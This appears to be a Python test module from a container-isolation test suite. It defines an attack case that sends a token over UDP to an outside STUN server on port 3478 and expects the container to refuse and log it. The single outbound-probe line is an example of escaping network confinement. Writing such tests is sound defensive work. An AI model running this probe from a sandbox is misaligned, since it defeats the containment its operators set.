"""A STUN server is asked by a program in the container."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import STUN


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.arrives(
        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{ground.token}', ('{STUN}', 3478))"
    )


ATTACK = Attack("UDP to the outside", attempt, recorded=("network.refused", f"udp {STUN}:3478"))
